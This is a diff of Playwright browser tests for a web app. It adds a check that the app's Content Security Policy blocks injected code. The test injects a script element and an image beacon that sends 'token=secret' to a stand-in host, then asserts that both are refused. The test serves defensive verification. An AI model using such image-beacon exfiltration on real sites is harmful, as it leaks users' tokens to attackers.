@@ -45,3 +45,30 @@ def test_after_one_visit_the_app_opens_offline_from_its_service_worker(page, con
     assert resp.from_service_worker
     expect(page.locator("html")).to_have_attribute("lang", "zh-CN")
     expect(page.locator("input[type=password]")).to_be_visible()
+
+
+def test_the_app_runs_under_a_policy_that_refuses_injected_code(page, csp):
+    page.goto("/")
+    expect(page.locator("input[type=password]")).to_be_visible()
+    # what an injection would try: a script element of its own, and an image that carries data elsewhere
+    page.evaluate("""() => {
+      const script = document.createElement('script');
+      script.textContent = 'window.injected = 1';
+      document.head.append(script);
+      const image = document.createElement('img');
+      image.src = 'http://127.0.0.2:9/leak.png?token=secret';
+      document.body.append(image);
+    }""")
+    assert page.evaluate("window.injected") is None
+    for _ in range(50):  # the reports reach the test asynchronously
+        if len(csp.violations) >= 2:
+            break
+        page.wait_for_timeout(100)
+    assert sorted(v.split()[0] for v in csp.violations) == ["img-src", "script-src-elem"], csp.violations
+    csp.violations.clear()  # seen: the watch works, and these two were the test's own
+
+
+def test_the_api_docs_page_works_under_its_own_policy(page):
+    page.goto("/api/docs")
+    expect(page.locator(".swagger-ui .info .title")).to_contain_text("SafeGrid")
+    expect(page.locator(".opblock").first).to_be_visible()  # the document loaded and was drawn
